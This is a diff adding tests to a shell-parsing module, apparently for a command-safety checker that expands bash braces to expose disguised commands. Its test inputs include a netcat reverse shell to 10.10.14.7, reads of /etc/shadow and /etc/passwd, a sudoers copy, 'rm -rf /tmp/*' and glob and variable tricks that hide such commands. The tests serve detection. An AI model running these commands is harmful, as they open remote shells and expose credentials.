@@ -60,6 +60,16 @@ describe('shell parsing', () => {
     // A whole directory is a bulk copy, not a file's name spelled as a glob; plain words and the command name stay as they are.
     for (const line of ['tar czf etc.tgz /etc/*', 'ls /root/.ssh/*', 'rm -rf /tmp/*', '/???/c?t notes.txt', 'cat /etc/passwd', 'grep -r x /srv/app']) expect(argv(line)).toEqual([shellWords(line)]);
   });
+  it('reads brace expansion as bash does: a braced command alone, and the absolute paths a brace spells', () => {
+    const argv = (line: string): string[][] => simpleCommands(line).map((c) => [...c.argv]);
+    expect(argv('{cat,/etc/shadow}')).toEqual([['cat', '/etc/shadow']]);
+    expect(argv('{nc,-e,/bin/sh,10.10.14.7,4444}')).toEqual([['nc', '-e', '/bin/sh', '10.10.14.7', '4444']]);
+    expect(argv('cat /etc/{shadow,passwd}')).toEqual([['cat', '/etc/{shadow,passwd}', '/etc/shadow', '/etc/passwd']]);
+    expect(argv('cat /etc/sh{a,}dow')).toEqual([['cat', '/etc/sh{a,}dow', '/etc/shadow', '/etc/shdow']]);
+    expect(argv('cp /etc/sudoers{,.bak}')).toEqual([['cp', '/etc/sudoers{,.bak}', '/etc/sudoers', '/etc/sudoers.bak']]);
+    // No comma, a sequence, a relative word, or a group that would give more than 32 words: left as typed.
+    for (const line of ['{echo}', 'echo {a,b}', 'cat /x/{1..3}', 'touch {a,b}.txt', `cat /x/${'{a,b}'.repeat(6)}`]) expect(argv(line)).toEqual([shellWords(line)]);
+  });
   it('reads a later command with the plain values the line assigned (GTFOBins LFILE=…)', () => {
     const argv = (line: string): string[][] => simpleCommands(line).map((c) => [...c.argv, ...c.writes.map((w) => `>${w}`)]);
     expect(argv('LFILE=/etc/shadow\nfold -w99999 "$LFILE"')).toEqual([[], ['fold', '-w99999', '/etc/shadow']]);
